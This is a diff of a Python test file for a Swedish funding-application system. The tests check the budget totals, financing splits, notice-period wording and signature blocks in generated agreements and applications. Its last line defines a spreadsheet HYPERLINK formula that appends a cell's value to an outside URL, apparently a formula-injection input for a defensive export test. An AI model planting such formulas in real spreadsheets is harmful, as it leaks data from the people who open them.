@@ -1,12 +1,175 @@
-"""The money cycle's documents as the people who open them meet them: text from the application
-reads as written, whatever characters it holds."""
+"""The money cycle's documents as the templates ask and as the people who open them meet them:
+totals per year and for the whole period, funded and own financing, the total granted, Swedish
+plurals, a signature block per party; text from the application reads as written."""
 
+import re
 from io import BytesIO
 
+import pytest
+from docx import Document
 from openpyxl import load_workbook
+from pypdf import PdfReader
 
 from samordna.core.permissions import Role
-from samordna.funding.tests.factories import add_line, running_intervention
+from samordna.funding import documents, services
+from samordna.funding.tests.factories import (
+    add_line,
+    decide,
+    draw_agreement,
+    running_intervention,
+)
+from samordna.interventions import services as intervention_services
+from samordna.interventions.tests.factories import intervention_of
+
+# Per year: from the förbund, own financing, total cost, granted.
+YEAR_2021 = ["2021", "309 600 kr", "40 000 kr", "349 600 kr", "309 000 kr"]
+YEAR_2022 = ["2022", "816 000 kr", "160 000 kr", "976 000 kr", "816 000 kr"]
+WHOLE_PERIOD = ["Hela perioden", "1 125 600 kr", "200 000 kr", "1 325 600 kr", "1 125 000 kr"]
+
+
+def _plain(text: str) -> str:
+    """Every kind of space as one ordinary space."""
+    return re.sub(r"[\s\u00a0\u202f]+", " ", text)
+
+
+@pytest.fixture
+def submitted(tenant):
+    """Two years of salaries from the förbund and premises as own financing, submitted."""
+    intervention = intervention_of(tenant)
+    for organisation, year, amount, percent in [
+        (tenant.kommun, 2021, "206400", "150"),
+        (tenant.forsakringskassan, 2021, "103200", "75"),
+        (tenant.kommun, 2022, "816000", "150"),
+    ]:
+        add_line(
+            tenant, intervention, organisation, amount, "salaries", year, position_percent=percent
+        )
+    for year, amount in [(2021, "40000"), (2022, "160000")]:
+        add_line(tenant, intervention, tenant.kommun, amount, "premises_rent", year, source="own")
+    intervention_services.submit(tenant.users[Role.ADMIN], intervention)
+    return intervention
+
+
+@pytest.fixture
+def agreement(tenant, submitted):
+    decide(tenant, submitted, {2021: "309000", 2022: "816000"}, outcome="partly_granted")
+    return draw_agreement(tenant, submitted)
+
+
+def _word(content: bytes):
+    document = Document(BytesIO(content))
+    paragraphs = [_plain(p.text) for p in document.paragraphs]
+    tables = [[[_plain(c.text) for c in row.cells] for row in t.rows] for t in document.tables]
+    return paragraphs, tables
+
+
+def test_the_agreement_carries_the_budget_per_year_and_the_total_granted(agreement):
+    text = _plain(
+        " ".join(
+            page.extract_text()
+            for page in PdfReader(BytesIO(documents.agreement_pdf(agreement))).pages
+        )
+    )
+    assert "Totalt: 1 125 000 kronor för 2021–2022." in text
+    for row in (YEAR_2021, YEAR_2022, WHOLE_PERIOD):
+        assert " ".join(row) in text
+
+    paragraphs, tables = _word(documents.agreement_docx(agreement))
+    assert "Totalt: 1 125 000 kronor för 2021–2022." in paragraphs
+    assert tables == [
+        [
+            ["År", "Från samordningsförbundet", "Egenfinansiering", "Total kostnad", "Beviljat"],
+            YEAR_2021,
+            YEAR_2022,
+            WHOLE_PERIOD,
+        ]
+    ]
+
+
+def test_the_agreement_has_a_signature_block_for_the_forbund_and_each_party(tenant, agreement):
+    parties = [tenant.forbund.name, tenant.kommun.name, tenant.forsakringskassan.name]
+    text = _plain(
+        " ".join(
+            page.extract_text()
+            for page in PdfReader(BytesIO(documents.agreement_pdf(agreement))).pages
+        )
+    )
+    signatures = text.split("Underskrifter")[-1]
+    for party in parties:
+        assert f"{party} Ort och datum Underskrift Namnförtydligande" in signatures
+
+    paragraphs, _tables = _word(documents.agreement_docx(agreement))
+    block = paragraphs[paragraphs.index("Underskrifter") + 1 :]
+    blank = documents.BLANK
+    assert block == [
+        line
+        for party in parties
+        for line in (
+            party,
+            f"Ort och datum: {blank}",
+            f"Underskrift: {blank}",
+            f"Namnförtydligande: {blank}",
+        )
+    ]
+
+
+@pytest.mark.parametrize(
+    ("renegotiation", "termination", "expected"),
+    [
+        (1, 3, ["minst 1 månad i förväg", "med 3 månaders varsel"]),
+        (2, 1, ["minst 2 månader i förväg", "med 1 månads varsel"]),
+    ],
+)
+def test_notice_periods_read_in_swedish_singular_and_plural(
+    tenant, submitted, renegotiation, termination, expected
+):
+    decide(tenant, submitted, {2021: "309000", 2022: "816000"})
+    agreement = draw_agreement(
+        tenant,
+        submitted,
+        renegotiation_notice_months=renegotiation,
+        termination_notice_months=termination,
+        max_weeks_per_participant=1,
+    )
+    text = " ".join(p for s in documents.agreement_sections(agreement) for p in s.paragraphs)
+    assert "(er)" not in text
+    assert "som längst 1 vecka." in text
+    for phrase in expected:
+        assert phrase in text
+
+
+def test_the_application_in_word_carries_its_totals_and_each_partys_signature(tenant, submitted):
+    version = submitted.application_versions.get()
+    services.accept_version(tenant.users[Role.STAFF], version, tenant.kommun, "Förvaltningschef")
+    paragraphs, tables = _word(documents.application_docx(version))
+
+    assert "Totalt: 1 125 600 kronor från samordningsförbundet för 2021–2022." in paragraphs
+    assert "Egenfinansiering 200 000 kr; total kostnad för insatsen 1 325 600 kr." in paragraphs
+    per_year, lines = tables
+    assert per_year == [
+        ["År", "Från samordningsförbundet", "Egenfinansiering", "Total kostnad"],
+        YEAR_2021[:4],
+        YEAR_2022[:4],
+        WHOLE_PERIOD[:4],
+    ]
+    assert lines[0] == ["År", "Organisation", "Kategori", "Beskrivning", "Finansiering", "Belopp"]
+    kommun = tenant.kommun.name
+    assert ["2022", kommun, "Lokalhyra", "", "Egenfinansiering", "160 000 kr"] in lines
+    salary = ["2022", kommun, "Lönekostnader inkl. PO-pålägg", "(150 %)"]
+    assert [*salary, "Finansierat av samordningsförbundet", "816 000 kr"] in lines
+
+    signatures = paragraphs[paragraphs.index("Underskrifter") + 1 :]
+    accepted_by = tenant.users[Role.STAFF].display_name
+    kommun = signatures[signatures.index(tenant.kommun.name) + 1 :][:3]
+    assert kommun[0].startswith("Godkänd i Samordna: ")
+    assert kommun[1:] == [f"Namnförtydligande: {accepted_by}", "Titel: Förvaltningschef"]
+    fk = signatures[signatures.index(tenant.forsakringskassan.name) + 1 :][:3]
+    assert fk == [
+        f"Ort och datum: {documents.BLANK}",
+        f"Underskrift: {documents.BLANK}",
+        f"Namnförtydligande: {documents.BLANK}",
+    ]
+
 
 FORMULA = '=HYPERLINK("https://example.org/?d="&A1,"Öppna")'
 
